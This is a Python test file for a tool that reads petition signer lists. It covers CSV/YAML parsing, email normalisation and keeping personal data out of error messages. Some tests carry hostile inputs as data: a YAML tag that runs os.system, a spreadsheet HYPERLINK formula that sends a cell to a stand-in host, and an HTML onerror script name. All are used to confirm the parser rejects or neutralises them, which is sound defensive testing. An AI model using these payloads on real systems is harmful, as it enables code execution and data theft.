"""Signer lists: strict CSV/YAML reading, email rules, and no personal data in any message.

Catalogue items 24-32 and 37 of threats.md, at the module level, on real files.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from advocate.errors import AdvocateError
from advocate.signers import (
    KNOWN_COLUMNS,
    Signer,
    email_key,
    normalise_email,
    parse_signers,
    read_signers,
)
from advocate.signers.export import csv_cell
from helpers import personal_data

FIXTURES = Path(__file__).parents[1] / "fixtures" / "signers"


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Work in a temporary folder so messages say ``signers.csv:N`` as a user would see."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


def use(fixture: str, as_name: str = "signers.csv") -> Path:
    """Copy a fixture into the current (temporary) folder under the name a user would type."""
    shutil.copyfile(FIXTURES / fixture, as_name)
    return Path(as_name)


def write(name: str, data: str | bytes) -> Path:
    path = Path(name)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def error_of(path: Path, **kw: object) -> str:
    with pytest.raises(AdvocateError) as info:
        read_signers(path, **kw)  # type: ignore[arg-type]
    return str(info.value)


# --------------------------------------------------------------------------- good files


def test_valid_csv(here: Path) -> None:
    signers = read_signers(use("valid.csv"))
    assert [(s.row, s.line) for s in signers] == [(1, 2), (2, 3), (3, 5), (5, 7)]
    first, joerg, marina, nils = signers
    assert first.name == "Aigerim Sadykova"
    assert first.email == "aigerim@example.org"
    assert (first.city, first.country, first.public) == ("Almaty", "KZ", True)
    # Local part kept as typed; domain IDNA-encoded and lower-cased.
    assert joerg.email == "Joerg.Brandt@xn--bcher-kva.example"
    assert joerg.note == "I stood in Almaty in 2022.\nFree them."
    assert joerg.public is False
    assert marina.name == "Марина Иванова"
    assert (marina.email, marina.note, marina.public) == (None, None, False)
    assert nils.public is True  # 'Y'
    assert nils.country == "NO"  # a string, never False


def test_valid_yaml_keeps_strings(here: Path) -> None:
    signers = read_signers(use("valid.yaml", "signers.yaml"))
    assert [(s.row, s.line) for s in signers] == [(1, 2), (2, 6), (3, 11)]
    aigerim, marina, nils = signers
    assert (aigerim.country, aigerim.public) == ("NO", True)
    assert marina.city == "01234"
    assert marina.note == "First line.\nSecond line."
    assert (nils.email, nils.note, nils.public) == (None, "12:30", False)


def test_repr_shows_no_personal_data() -> None:
    signer = Signer(row=3, name="Aigerim Sadykova", email="aigerim@example.org", city="Almaty")
    assert repr(signer) == "Signer(row=3)"
    assert str(signer) == "Signer(row=3)"
    assert "Aigerim" not in f"{[signer]}"


def test_bom_is_not_part_of_the_first_header(here: Path) -> None:  # catalogue 24
    [signer] = read_signers(use("bom.csv"))
    assert signer.name == "Aigerim Sadykova"
    assert signer.email == "aigerim@example.org"


def test_cp1252_is_refused_with_the_line(here: Path) -> None:  # catalogue 25
    path = use("cp1252.csv")
    assert error_of(path) == "signers.csv:2: not valid UTF-8 (try --encoding cp1252)"
    [signer] = read_signers(path, encoding="cp1252")
    assert signer.name == "José Núñez"


def test_excel_unicode_text_utf16_tabs(here: Path) -> None:
    signers = read_signers(use("excel-unicode.txt", "signers.txt"))
    assert [(s.name, s.email, s.city) for s in signers] == [
        ("Айгерим Садыкова", "aigerim@example.kz", "Алматы"),
        ('Берг, "Нильс"', "nils@example.org", None),
    ]


def test_utf16_saved_as_csv_is_sniffed(here: Path) -> None:
    path = write("signers.csv", "name\temail\r\nÅsa Berg\tasa@example.se\r\n".encode("utf-16"))
    [signer] = read_signers(path)
    assert (signer.name, signer.email) == ("Åsa Berg", "asa@example.se")


def test_semicolon_csv_from_excel_locales(here: Path) -> None:
    path = write("signers.csv", "name;email;public\nJörg Brandt;joerg@example.de;jein\n")
    assert error_of(path) == (
        "signers.csv:2: row 1: invalid value for 'public' "
        "(use yes or no (or the same in the list's language: sí, oui, ja, да, نعم...); "
        "empty means no: the signer is counted, not named)"
    )
    path = write("signers.csv", "name;email;public\nJörg Brandt;joerg@example.de;ja\n")
    assert read_signers(path)[0].public is True  # German's yes, in any list
    path = write("signers.csv", "name;email;public\nJörg Brandt;joerg@example.de;yes\n")
    assert read_signers(path)[0].public is True


def test_damaged_utf16(here: Path) -> None:
    data = "name\r\nAna\r\nLeila\r\n".encode("utf-16") + b"\x00"
    assert error_of(write("signers.csv", data)) == (
        "signers.csv:4: not valid UTF-16 "
        "(the file starts like UTF-16 but is damaged; save it again)"
    )


def test_utf16_without_bom_hint(here: Path) -> None:
    data = "name\r\nAna\r\n".encode("utf-16-le")
    assert "needs --encoding utf-16" in error_of(write("signers.csv", data))
    assert read_signers(Path("signers.csv"), encoding="utf-16-le")[0].name == "Ana"


def test_unknown_encoding(here: Path) -> None:
    path = use("valid.csv")
    expected = "signers.csv: unknown encoding 'klingon' (for example utf-8, cp1252 or utf-16)"
    assert error_of(path, encoding="klingon") == expected
    for codec in ("rot13", "base64", "zlib_codec", "hex"):  # bytes or text codecs, no text
        assert f"unknown encoding '{codec}'" in error_of(path, encoding=codec)


# --------------------------------------------------------------------------- structure


def test_duplicate_column(here: Path) -> None:  # catalogue 26
    assert error_of(use("dup-column.csv")) == "signers.csv:1: duplicate column 'email'"


def test_unknown_column_did_you_mean(here: Path) -> None:
    path = write("signers.csv", "Name , Emial,phone\nAna Lima,ana@example.br,123\n")
    assert error_of(path) == (
        "signers.csv:1: unknown column 'emial' (did you mean 'email'? known columns: "
        "name, email, city, country, note, public, address, lang)\n"
        "signers.csv:1: unknown column 'phone' (known columns: "
        "name, email, city, country, note, public, address, lang)"
    )


def test_missing_header_row_is_not_echoed(here: Path) -> None:
    path = write("signers.csv", "Ana Lima,ana@example.br\nLeila Haddad,leila@example.org\n")
    message = error_of(path)
    assert message == (
        "signers.csv:1: the first row names no known column (the first row must name the "
        "columns, for example name,email,city,country,note,public,address,lang; or map yours: "
        '--columns name="Full Name",email="Email Address",public="Display my name")'
    )
    assert "Ana" not in message and "Leila" not in message
    # Same message for a header with every column misspelt: one line, nothing echoed.
    assert error_of(write("signers.csv", "Nate,Berlin\nAna,Rio\n")) == message


def test_name_column_required(here: Path) -> None:
    path = write("signers.csv", "email,city\nana@example.br,Rio\n")
    assert error_of(path) == "signers.csv:1: no 'name' column (the header row must include name)"


def test_ragged_rows(here: Path) -> None:  # catalogue 27
    assert error_of(use("ragged.csv")) == (
        "signers.csv:5: expected 3 fields, got 4\nsigners.csv:6: expected 3 fields, got 2"
    )


def test_unclosed_quote(here: Path) -> None:  # catalogue 27
    assert error_of(use("unclosed-quote.csv")) == (
        "signers.csv:7: unclosed quote "
        "(a quoted field in the row that starts on this line never ends)"
    )


def test_stray_quote(here: Path) -> None:
    path = write("signers.csv", 'name,email\n"Ana" Lima,ana@example.br\nLeila,leila@example.org\n')
    assert error_of(path) == (
        "signers.csv:2: malformed quoting "
        '(quote the whole field and double any quote inside it: "say ""hi""")'
    )


def test_200kb_field(here: Path) -> None:  # catalogue 28
    rows = [f"Signer {i},s{i}@example.org,ok" for i in range(1, 8)]
    big = "x" * 200_000
    path = write(
        "signers.csv", "name,email,note\n" + "\n".join(rows) + f"\nBig,b@example.org,{big}\n"
    )
    assert error_of(path) == (
        "signers.csv:9: field too large (a field may hold at most 10,000 characters)"
    )


def test_long_note_over_our_limit(here: Path) -> None:
    path = write("signers.csv", f'name,note\nAna Lima,"{"n" * 12_000}"\n')
    assert error_of(path) == (
        "signers.csv:2: row 1: field 'note' too large (12,000 characters; the limit is 10,000)"
    )
    path = write("signers.csv", f'name,note\nAna Lima,"{"n" * 10_000}"\n')
    assert read_signers(path)[0].note == "n" * 10_000


def test_nul_byte_refused(here: Path) -> None:
    path = write("signers.csv", b"name,email\nAna\x00Lima,ana@example.br\n")
    assert error_of(path).startswith("signers.csv:2: contains a NUL byte (")


def test_blank_rows_skipped_and_counted(here: Path) -> None:
    path = write("signers.csv", "name\n\nAna\n,\n\n  \nLeila\n")
    signers = read_signers(path)
    assert [(s.name, s.row, s.line) for s in signers] == [("Ana", 2, 3), ("Leila", 6, 7)]


def test_empty_files(here: Path) -> None:
    assert error_of(write("signers.csv", "")) == (
        "signers.csv:1: empty signer list "
        "(expected a header row such as name,email,city,country,note,public,address,lang)"
    )
    assert error_of(write("signers.csv", "name,email\n")) == (
        "signers.csv: no signers (the file has no data rows)"
    )


def test_value_under_an_unnamed_column(here: Path) -> None:
    # Excel often adds empty trailing columns: fine while they stay empty.
    assert read_signers(write("signers.csv", "name,email,,\nAna,,,\n"))[0].name == "Ana"
    path = write("signers.csv", "name,email,\nAna,,oops\n")
    assert error_of(path) == (
        "signers.csv:2: row 1: column 3 has a value but no header "
        "(name the column in the header row, or delete the value)"
    )


def test_control_characters_and_empty_name(here: Path) -> None:
    path = write(
        "signers.csv", 'name,city,note\n"Ana\nLima",Rio,\n  ,Rio,\nLeila,"Be\x07rlin","a\tb\r\nc"\n'
    )
    assert error_of(path) == (
        "signers.csv:2: row 1: 'name' contains a line break or control character\n"
        "signers.csv:4: row 2: empty name "
        "(every signer needs a name; delete the row if it is not a signer)\n"
        "signers.csv:5: row 3: 'city' contains a line break or control character"
    )


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("yes", True),
        ("YES", True),
        ("y", True),
        ("True", True),
        ("1", True),
        ("no", False),
        ("N", False),
        ("false", False),
        ("0", False),
        ("", False),
    ],
)
def test_public_values(cell: str, expected: bool) -> None:
    [signer] = parse_signers(f"name,public\nAna,{cell}\n".encode(), "signers.csv")
    assert signer.public is expected


def test_too_many_problems_are_capped() -> None:
    data = "name,email\n" + "".join(f"S{i},bad{i}\n" for i in range(60))
    with pytest.raises(AdvocateError) as info:
        parse_signers(data.encode(), "signers.csv")
    problems = info.value.problems
    assert len(problems) == 51
    assert str(problems[0]) == "signers.csv:2: row 1: invalid email (no @)"
    assert str(problems[-1]) == "signers.csv: and 10 more problems"


def test_file_too_large(here: Path) -> None:
    path = write("signers.csv", "name\n" + "Ana\n" * 100)
    assert error_of(path, max_bytes=100) == (
        "signers.csv: file too large (405 bytes; the limit is 100; "
        "raise it with --max-signers-size)"
    )


def test_unsupported_files(here: Path) -> None:
    assert error_of(write("signers.xlsx", b"PK\x03\x04rest")) == (
        "signers.xlsx: not a readable workbook (the file is damaged) "
        "(save it again from your spreadsheet, or as CSV UTF-8)"
    )
    assert error_of(write("signers.csv", b"PK\x03\x04rest")) == (
        "signers.csv: this is a spreadsheet workbook, not a text file "
        "(give it its own extension (.xlsx, .xls or .ods) and advocate reads it as a "
        "spreadsheet)"
    )
    assert error_of(write("signers.json", b"[]")) == (
        "signers.json: unsupported signer file type '.json' "
        "(use a .csv (UTF-8, header row), a spreadsheet (.xlsx, .xls, .ods) or a .yaml list)"
    )
    assert error_of(Path("missing.csv")) == "missing.csv: no such file (check the path)"
    Path("folder.csv").mkdir()
    assert error_of(Path("folder.csv")) == "folder.csv: is a folder, not a signer file"


# --------------------------------------------------------------------------- content


def test_formula_name_kept_literally(here: Path) -> None:  # catalogue 29
    formula, phone = read_signers(use("formula.csv"))
    assert formula.name == '=HYPERLINK("http://x/?"&B2,"click")'
    assert phone.name == "+447700900123"
    assert csv_cell(formula.name) == "'" + formula.name
    assert csv_cell(phone.name) == "'+447700900123"


def test_html_name_kept_literally(here: Path) -> None:  # catalogue 30
    [signer] = read_signers(use("html.csv"))
    assert signer.name == "<img src=http://x/ onerror=alert(1)>"


def test_invalid_emails(here: Path) -> None:  # catalogue 31
    assert error_of(use("bad-email.csv")) == (
        "signers.csv:4: row 3: invalid email (more than one @)\n"
        "signers.csv:5: row 4: invalid email (contains a space)"
    )


def test_duplicate_emails_by_casefold(here: Path) -> None:  # catalogue 32
    path = use("dup-email.csv")
    message = error_of(path)
    assert message == (
        "signers.csv:18: rows 3 and 17 have the same email (remove one, or pass --dedupe first)"
    )
    kept = read_signers(path, dedupe="first")
    assert len(kept) == 16
    assert [s.row for s in kept if s.email and email_key(s.email) == "jose@x.org"] == [3]
    assert kept[2].email == "JOSE@x.org"


FAILING = [
    "cp1252.csv",
    "dup-column.csv",
    "ragged.csv",
    "unclosed-quote.csv",
    "bad-email.csv",
    "dup-email.csv",
]


@pytest.mark.parametrize("fixture", FAILING)
def test_no_personal_data_in_messages(here: Path, fixture: str) -> None:  # catalogue 37
    message = error_of(use(fixture))
    data = personal_data(fixture)
    assert data, fixture
    for value in data:
        assert value not in message
        assert value.casefold() not in message.casefold()


def test_no_personal_data_when_dedupe_fails_in_yaml(here: Path) -> None:
    path = write(
        "signers.yaml",
        "- name: Leila Haddad\n  email: Leila@Example.org\n"
        "- name: Leila H.\n  email: leila@example.org\n  public: maybe\n",
    )
    message = error_of(path)
    assert message == (
        "signers.yaml:3: rows 1 and 2 have the same email (remove one, or pass --dedupe first)\n"
        "signers.yaml:5: row 2: invalid value for 'public' "
        "(use yes or no (or the same in the list's language: sí, oui, ja, да, نعم...); "
        "empty means no: the signer is counted, not named)"
    )
    assert "Leila" not in message and "leila@" not in message.casefold()


# --------------------------------------------------------------------------- minimisation


def test_fields_drop_unused_columns(here: Path) -> None:
    path = write(
        "signers.csv",
        "name,email,city,note,public\nAna Lima,not-an-email,Rio,private words,maybe\n",
    )
    [signer] = read_signers(path, fields={"city"})
    assert (signer.name, signer.city) == ("Ana Lima", "Rio")
    # Dropped on read: neither kept nor validated.
    assert (signer.email, signer.note, signer.public) == (None, None, False)
    with pytest.raises(ValueError, match="unknown signer fields: ctiy"):
        read_signers(path, fields={"ctiy"})
    with pytest.raises(TypeError):
        read_signers(path, fields="city")


def test_fields_still_check_column_names(here: Path) -> None:
    path = write("signers.csv", "name,emial\nAna,a@example.org\n")
    assert "unknown column 'emial'" in error_of(path, fields=["name"])


# --------------------------------------------------------------------------- YAML


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("- &a name: A\n", "signers.yaml:1:3: anchors and aliases are not allowed"),
        ("- name: &a A\n- name: *a\n", "signers.yaml:1:9: anchors and aliases are not allowed"),
        (
            '- name: !!python/object/apply:os.system ["touch pwned"]\n',
            "signers.yaml:1:9: tags are not allowed",
        ),
        (
            "name: A\n",
            "signers.yaml:1:1: expected a list of signers (each item looks like: - name: ...)",
        ),
        ("", "signers.yaml:1: empty signer list (expected a list of signers)"),
        ("---\n", "signers.yaml:1: empty signer list (expected a list of signers)"),
        ("[]", "signers.yaml: no signers (the file has no data rows)"),
        (
            "- name: A\n---\n- name: B\n",
            "signers.yaml:2:1: more than one YAML document (a signer file holds one list)",
        ),
        ("- name: [\n", "signers.yaml:2:1: invalid YAML: did not find expected node content"),
        (
            "- name: A\n  email: a@example.org\n  email: b@example.org\n",
            "signers.yaml:3:3: row 1: duplicate key 'email' (first at line 2)",
        ),
        (
            "- name: A\n  emial: a@example.org\n",
            "signers.yaml:2:3: row 1: unknown key 'emial' (did you mean 'email'? known columns: "
            "name, email, city, country, note, public, address, lang)",
        ),
        (
            "- name: {first: A}\n- Just a string\n- city: Rio\n",
            "signers.yaml:1:9: row 1: 'name' must be text "
            "(one value per key, not a list or mapping)\n"
            "signers.yaml:2:3: row 2: expected a mapping (each item looks like: - name: ...)\n"
            "signers.yaml:3: row 3: missing name (every signer needs a name)",
        ),
        (
            "- name: ''\n",
            "signers.yaml:1: row 1: empty name "
            "(every signer needs a name; delete the row if it is not a signer)",
        ),
        ("[" * 600, None),
    ],
)
def test_yaml_problems(here: Path, text: str, expected: str | None) -> None:
    message = error_of(write("signers.yaml", text))
    if expected is not None:
        assert message == expected
    assert not Path("pwned").exists()


# --------------------------------------------------------------------------- emails


@pytest.mark.parametrize(
    ("raw", "normal"),
    [
        (" JOSE@X.ORG ", "JOSE@x.org"),
        ("jörg@Bücher.Example", "jörg@xn--bcher-kva.example"),
        ("first.last+tag@Gmail.com", "first.last+tag@gmail.com"),  # no provider rewriting
        ("o'brien@example.ie", "o'brien@example.ie"),
        ("Jose\u0301@example.org", "José@example.org"),  # NFC
    ],
)
def test_normalise_email(raw: str, normal: str) -> None:
    assert normalise_email(raw) == normal


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        ("", "empty"),
        ("secret.person", "no @"),
        ("a@b@c", "more than one @"),
        ("@example.org", "nothing before the @"),
        ("secret@", "nothing after the @"),
        ("se cret@example.org", "contains a space"),
        ("secret\u00a0x@example.org", "contains a space"),
        ("secret\x07@example.org", "contains a control character"),
        ("sec\u200bret@example.org", "contains an invisible character"),
        ("secret\u202e@example.org", "contains an invisible character"),
        (".secret@example.org", "misplaced dot before the @"),
        ("sec..ret@example.org", "misplaced dot before the @"),
        ("sec<ret>@example.org", "character not allowed before the @"),
        ("secret@example..org", "invalid domain"),
        ("secret@exa_mple.org", "invalid domain"),
        ("secret@-example.org", "invalid domain"),
        ("secret@192.168.0.1", "invalid domain"),
        ("secret@example.org.", "domain ends with a dot"),
        ("secret@localhost", "domain has no dot"),
        ("s" * 65 + "@example.org", "the part before the @ is too long"),
    ],
)
def test_invalid_email_reasons_never_quote_the_address(raw: str, reason: str) -> None:
    with pytest.raises(ValueError) as info:
        normalise_email(raw)
    assert str(info.value) == reason
    assert "secret" not in str(info.value)


def test_email_key() -> None:
    assert email_key("JOSE@X.ORG ") == email_key("jose@x.org") == "jose@x.org"
    assert email_key("Straße@example.de") == email_key("STRASSE@example.de")
    assert email_key("user@xn--bcher-kva.example") == email_key("USER@BÜCHER.example")
    # Homoglyphs stay distinct: Cyrillic 'о' is not Latin 'o'.
    assert email_key("jоse@x.org") != email_key("jose@x.org")


_email_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40)


@settings(max_examples=300, deadline=None)
@given(st.one_of(_email_text, st.builds(lambda a, b: f"{a}@{b}.org", _email_text, _email_text)))
def test_email_key_idempotent(raw: str) -> None:
    try:
        key = email_key(raw)
    except ValueError:
        return
    assert email_key(key) == key
    assert email_key(normalise_email(raw)) == key if len(raw) < 60 else True


# --------------------------------------------------------------------------- fuzzing


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.binary(max_size=400), name=st.sampled_from(["s.csv", "s.tsv", "s.yaml", "s.txt"]))
def test_parse_signers_arbitrary_bytes_only_raises_advocate_error(data: bytes, name: str) -> None:
    try:
        signers = parse_signers(data, name)
    except AdvocateError:
        return
    assert all(isinstance(s, Signer) and s.name for s in signers)


_cell = st.text(alphabet=st.sampled_from([*list('ab,"\n\r\t;@é =-'), "\x00"]), max_size=12)


@settings(max_examples=300, deadline=None)
@given(
    header=st.lists(st.sampled_from([*KNOWN_COLUMNS, "Email", "x", ""]), min_size=1, max_size=5),
    rows=st.lists(st.lists(_cell, max_size=6), max_size=6),
    name=st.sampled_from(["s.csv", "s.yaml"]),
)
def test_parse_signers_csv_like_text(header: list[str], rows: list[list[str]], name: str) -> None:
    text = ",".join(header) + "\n" + "\n".join(",".join(r) for r in rows)
    try:
        parse_signers(text.encode(), name)
    except AdvocateError as exc:
        assert exc.problems


_yaml_scalar = st.sampled_from(
    ["A", "''", "~", "yes", "a@b.org", "[1]", "{a: b}", "&x A", "*x", "!t A"]
)


@settings(max_examples=300, deadline=None)
@given(
    items=st.lists(
        st.lists(
            st.tuples(st.sampled_from([*KNOWN_COLUMNS, "nmae", "1"]), _yaml_scalar), max_size=4
        ),
        max_size=5,
    )
)
def test_parse_signers_yaml_like_text(items: list[list[tuple[str, str]]]) -> None:
    lines = []
    for item in items:
        if not item:
            lines.append("- {}")
            continue
        for index, (key, value) in enumerate(item):
            lines.append(("- " if index == 0 else "  ") + f"{key}: {value}")
    try:
        parse_signers("\n".join(lines).encode(), "s.yaml")
    except AdvocateError as exc:
        assert exc.problems


_ascii_email = st.builds(
    lambda a, b, c: f"{a}@{b}.{c}",
    st.text(alphabet=st.sampled_from(list("aZ0.-+_'=!~`{}")), min_size=0, max_size=70),
    st.text(alphabet=st.sampled_from(list("aZ09-.")), min_size=0, max_size=20),
    st.text(alphabet=st.sampled_from(list("aZ09-")), min_size=0, max_size=8),
)


@settings(max_examples=500, deadline=None)
@given(st.one_of(_ascii_email, st.text(alphabet=st.sampled_from(list("a@.-0 ")), max_size=12)))
def test_normalise_email_common_shape_agrees_with_the_full_checks(raw: str) -> None:
    from advocate.schema import emails

    def full(address: str) -> str:
        local, domain = emails._split_email(address)
        if len(local.encode("utf-8")) > 64:
            raise ValueError("the part before the @ is too long")
        if len(domain) > 253:
            raise ValueError("domain too long")
        if len(f"{local}@{domain}".encode()) > 254:
            raise ValueError("address too long")
        return f"{local}@{domain}"

    try:
        expected: str | None = full(raw)
    except ValueError:
        expected = None
    try:
        got: str | None = normalise_email(raw)
    except ValueError:
        got = None
    assert got == expected
